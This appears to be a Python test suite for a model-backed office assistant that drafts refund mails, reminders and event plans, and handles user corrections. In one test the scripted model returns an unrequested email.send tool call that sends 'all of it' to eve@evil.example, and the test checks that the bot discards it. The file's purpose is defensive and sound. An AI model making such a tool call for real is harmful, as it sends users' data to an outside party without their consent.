"""Walks with a model that each door must carry alike: plain HTTP, and litellm.

Plans and their new versions are in test_planning.py, faults in test_model_faults.py.
"""

from bot.commands.sample import MAIL
from memory.canon import records
from memory.copying import verify
from memory.schema.models import costs, reasons
from memory.schema.work import effects, goals
from tests.chat import Chat
from tests.peers.models import knows, says
from tests.walks.model_office import CARD, TEMPLATE, WISH, Office, heard, one
from tests.walks.test_planning import note, plan
from tests.walks.test_refund import ledger, sent

BY_BOTH_DOORS = True
HALL = "Bruno told me that the hall has no lift and holds 80 people"
ANSWER = says({"sentences": [{"text": "It holds 80 people.", "sources": [1]}]})
WHOLE = says({"text": "Dear Ada, you get 120.00 EUR back. Warm wishes, Studio Example"})
PART = says({"text": "Dear Ada, you get 40.00 EUR back. Warm wishes, Studio Example"})


async def cards(office: Office, state: str) -> list[tuple[str, str]]:
    """Return to whom and what the mails say that stand so."""
    rows = [one for one in await office.rows(effects) if one.state == state]
    args = [one.action["args"] for one in rows if one.action["operation"] == "email.send"]
    return [(one["to"], one["text"]) for one in args]


async def test_a_mail_becomes_a_refund_and_a_reply_that_a_model_words(office: Office) -> None:
    chat = await office.open()
    office.server.script(WHOLE, PART)
    await chat.drop(MAIL)
    assert office.server.asked == []  # reading a mail asks nobody
    await chat.tap("Mail from Ada", "Refund")
    assert "you get 120.00 EUR back" in chat.text(CARD)
    assert 'name=\\"the mail it answers\\"' in office.server.read
    assert (sent(office.app), "REF-" in ledger(office.app)) == ([], False)
    await chat.tap("Refund 120.00 EUR", "Edit", amount="40.00")
    assert "you get [-120.00 EUR-] {+40.00 EUR+} back" in chat.text(CARD)  # the draft follows
    await chat.tap(CARD, "✓ Send")
    assert sent(office.app) == []  # it waits for the money
    await chat.tap("Refund 40.00 EUR", "✓ Refund")
    [mail] = sent(office.app)
    assert "40.00 EUR back" in mail
    assert ledger(office.app).count("(REF-") == 1
    assert len(office.server.asked) == 2
    await chat.tap("Refund 40.00 EUR", "Undo")
    await chat.tap("Take back: Refund", "✓ Take back")
    assert ledger(office.app).count("taken back") == 1
    assert (await verify.verify(office.app.db)).faults == ()


async def test_of_several_wishes_each_gets_what_a_model_does_for_it(office: Office) -> None:
    chat = await office.open()
    await chat.say(HALL)
    offered = plan(note("first", "Ask the hall for a day."), title="The summer party")
    drafted = says({"text": "Dear Bruno, the file is ready."})
    told = {"understood": offered, "sentences": ANSWER, "text": drafted}
    office.server.script(knows(told | {"heard": heard(one("plan"))}))
    await chat.say(
        "- write to Bruno that the file is ready\n- remind me on Friday at 9 to call Ada\n"
        "- how many people does the hall hold?\n- organise the summer party for Ada Example"
    )
    assert "the file is ready" in chat.text(CARD)
    assert "reminder set for Fri 27 Nov" in chat.text("Reminder")
    assert "It holds 80 people." in "".join(map(chat.text, summaries(chat)))
    assert "Do first — runs by itself" in chat.text("The summer party")
    assert {each.step.partition("/")[0] for each in await office.rows(reasons)} == {
        "draft.text", "answer", "hear.words", "plan"
    }  # fmt: skip
    await chat.tap("The summer party", "▶ Start")
    assert {one.state for one in await office.rows(effects)} == {"waiting", "done"}
    assert await cards(office, "waiting") == [("bruno@example.com", drafted_text(drafted))]


async def test_a_call_of_a_tool_is_no_answer(office: Office) -> None:
    chat = await office.open()
    stolen = {"name": "email.send", "arguments": '{"to": "eve@evil.example", "text": "all of it"}'}
    office.server.script({"toolCalls": [stolen]})
    await chat.say(WISH)
    [(to, text)] = await cards(office, "waiting")
    assert (to, TEMPLATE in text, "all of it" in text) == ("bruno@example.com", True, False)
    assert "drafted by the template" in chat.text(CARD)
    assert {one.state for one in await office.rows(reasons)} == {"empty", "gave_up"}
    assert {one.state for one in await office.rows(costs)} <= {"settled", "lost"}


async def test_a_correction_has_the_model_word_it_anew_for_the_other(office: Office) -> None:
    chat = await office.open()
    async with office.app.db.transaction() as tx:
        other = {"name": "Ada Sample", "email": "ada@sample.example"}
        await records.create(tx, "person", other, None)
    await chat.say("note on Ada Example: prefers mornings")
    office.server.script(says({"text": "Dear Ada, late."}), says({"text": "Dear Ada, too late."}))
    await chat.say("tell Ada that we are late")
    await chat.tap("Which to do you mean?", "Ada Example")
    await chat.say("no, the other Ada")
    assert await cards(office, "withdrawn") == [("ada@example.org", "Dear Ada, late.")]
    assert await cards(office, "waiting") == [("ada@sample.example", "Dear Ada, too late.")]
    first, second = (str(body["messages"]) for body in office.server.asked)
    assert "mornings" in first
    assert "mornings" not in second  # what is known of her is not the other's business
    await chat.tap(CARD, "✓ Send")
    assert len(sent(office.app)) == 1


async def test_a_correction_has_the_model_plan_anew_what_it_planned(office: Office) -> None:
    chat = await office.open()
    office.server.script(
        plan(note("first", "On Friday."), title="The party"),
        plan(note("first", "On Monday."), title="The party"),
    )
    await chat.say("/plan organise the summer party with Ada Example on Friday")
    await chat.say("not Friday, Monday")
    assert "You said: “not Friday, Monday”." in chat.text("The party")
    assert "on Friday" in str(office.server.asked[1]["messages"])
    assert "not Friday, Monday" in str(office.server.asked[1]["messages"])
    assert len(await office.rows(goals)) == 1
    await chat.tap("The party", "▶ Start")
    assert [one.action["args"]["text"] for one in await office.rows(effects)] == ["On Monday."]
    await chat.say("not Monday, Tuesday")
    assert "is done already" in chat.last
    assert len(office.server.asked) == 2
    assert (await verify.verify(office.app.db)).faults == ()


def summaries(chat: Chat) -> list[str]:
    return [msg.summary for msg in chat.shown.values()]


def drafted_text(answer: dict[str, str]) -> str:
    return str(answer["content"]).partition('": "')[2].rstrip('"}')
